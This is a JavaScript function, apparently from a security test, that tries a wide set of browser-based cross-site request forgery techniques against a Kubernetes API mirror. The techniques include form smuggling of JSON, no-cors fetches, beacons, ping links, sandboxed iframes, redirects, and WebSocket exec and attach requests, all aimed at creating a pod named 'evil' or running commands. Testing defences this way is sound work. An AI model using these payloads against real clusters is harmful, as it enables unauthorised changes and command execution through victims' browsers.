// Tries whatever a page can do to make a browser send a request that changes something, and resolves when all tries have ended.
// target is the origin of kubemirror, bounce the address of a server of the page's own that redirects to where it is asked to.
async function attack(target, bounce) {
    const pods = `${target}/api/v1/namespaces/a/pods`;
    const pod = JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'evil' } });
    const form = (action, enctype) => () => new Promise((done) => {
        const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}`, onload: done, onerror: done });
        const sent = Object.assign(document.createElement('form'), { action, method: 'post', target: frame.name });
        sent.enctype = enctype;
        sent.append(Object.assign(document.createElement('input'), { name: pod.slice(0, -1) + ',"x":"', value: '"}' }));
        document.body.append(frame, sent);
        sent.submit();
    });
    const element = (name, attribute, url) => () => new Promise((done) => {
        const made = Object.assign(document.createElement(name), { onload: done, onerror: done });
        made[attribute] = url;
        document.body.append(made);
    });
    const socket = (path, protocols) => () => new Promise((done) => {
        const opened = new WebSocket(target.replace('http', 'ws') + path, protocols);
        opened.onopen = opened.onclose = opened.onerror = done;
    });
    const sandboxed = () => new Promise((done) => {
        addEventListener('message', done, { once: true });
        const frame = document.createElement('iframe');
        frame.sandbox = 'allow-scripts allow-forms';
        frame.srcdoc = `<script>fetch('${pods}', { method: 'POST', mode: 'no-cors', body: '${pod}' })`
            + `.catch(() => {}).then(() => parent.postMessage('done', '*'))</script>`;
        document.body.append(frame);
    });
    const request = () => new Promise((done) => {
        const old = new XMLHttpRequest();
        old.open('POST', pods);
        old.onloadend = done;
        old.send(pod);
    });
    const ping = () => {
        const link = Object.assign(document.createElement('a'), { href: 'javascript:void 0', ping: pods });
        document.body.append(link);
        link.click();
    };
    const tries = [ping, request, sandboxed, () => navigator.sendBeacon(pods, new Blob([pod]))];
    for (const url of [pods, `${bounce}?to=${encodeURIComponent(pods)}`]) {
        for (const type of ['', 'text/plain', 'application/x-www-form-urlencoded', 'application/json', 'application/apply-patch+yaml']) {
            const body = () => new Blob([pod], { type });
            tries.push(() => fetch(url, { method: 'POST', mode: 'no-cors', body: body() }));
            tries.push(() => fetch(url, { method: 'POST', mode: 'no-cors', body: body(), referrerPolicy: 'no-referrer' }));
            tries.push(() => fetch(url, { method: 'POST', mode: 'no-cors', body: body(), keepalive: true, credentials: 'include' }));
            for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'UNKNOWN']) {
                tries.push(() => fetch(method === 'POST' ? url : `${url}/x`, { method, body: body() }));
            }
        }
        const data = new FormData();
        data.append('x', pod);
        tries.push(() => fetch(url, { method: 'POST', mode: 'no-cors', body: data }));
        for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
            tries.push(form(url, enctype));
        }
    }
    for (const name of ['img', 'script', 'iframe']) {
        tries.push(element(name, 'src', `${pods}/x/proxy/reset`));
        tries.push(element(name, 'src', `${pods}/x/exec?command=reset`));
        tries.push(element(name, 'src', `${bounce}?to=${encodeURIComponent(`${pods}/x/proxy/reset`)}`));
    }
    tries.push(() => fetch(`${pods}/x/proxy/reset`, { mode: 'no-cors' }));
    for (const path of ['exec?command=reset', 'attach', 'portforward?ports=1', 'proxy/reset']) {
        tries.push(socket(`/api/v1/namespaces/a/pods/x/${path}`, ['v5.channel.k8s.io']));
        tries.push(socket(`/api/v1/namespaces/a/pods/x/${path}`, ['base64url.bearer.authorization.k8s.io.dA', 'v4.channel.k8s.io']));
    }
    for (const each of tries) {
        await Promise.resolve().then(each).catch(() => {});
    }
    return tries.length;
}
